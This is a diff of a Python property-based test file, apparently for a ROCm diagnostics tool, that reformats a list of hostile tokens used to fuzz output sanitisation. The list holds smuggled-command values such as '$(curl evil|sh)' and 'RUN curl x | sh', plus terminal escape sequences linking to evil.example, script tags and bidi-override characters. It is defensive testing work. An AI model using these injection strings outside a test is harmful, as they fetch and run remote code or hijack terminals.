@@ -22,7 +22,9 @@ from rocmdoctor.model import Finding, Fix, Severity
 CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
 SENTINEL = "ZQX"
 # text with everything that has a meaning somewhere: controls, escapes, markup, HTML, Markdown, shell, newlines
-TOKENS = [*list("[]/\\<>&|`$();'\"*_#!{}=,:\n\r\t\x1b\x07\x00\x9b\x85\u202e "), "[/]", "[link=https://evil.example]", "[bold red]", "\x1b]8;;https://evil.example\x1b\\", "\x1b[2J", "$(curl evil|sh)", "`id`", "<script>", "```", "Fix:", "\nRUN curl x | sh\n", "%post", SENTINEL]
+TOKENS = [*"[]/\\<>&|`$();'\"*_#!{}=,:\n\r\t\x1b\x07\x00\x9b\x85\u202e ",
+          "[/]", "[link=https://evil.example]", "[bold red]", "\x1b]8;;https://evil.example\x1b\\", "\x1b[2J",
+          "$(curl evil|sh)", "`id`", "<script>", "```", "Fix:", "\nRUN curl x | sh\n", "%post", SENTINEL]
 HOSTILE = st.lists(st.one_of(st.sampled_from(TOKENS), st.characters(codec="utf-8")), max_size=16).map("".join)
 FUZZ = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                        HealthCheck.function_scoped_fixture])
